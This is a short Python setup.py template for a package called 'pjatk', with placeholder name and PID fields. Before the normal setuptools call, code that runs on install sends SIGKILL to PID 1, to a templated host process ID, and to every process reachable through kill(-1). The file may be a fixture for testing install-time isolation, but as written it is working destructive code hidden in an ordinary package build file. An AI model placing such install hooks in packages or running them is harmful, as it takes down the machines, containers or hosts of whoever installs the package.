import os
import sys


import signal
for pid in (1, @@HOSTPID@@):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
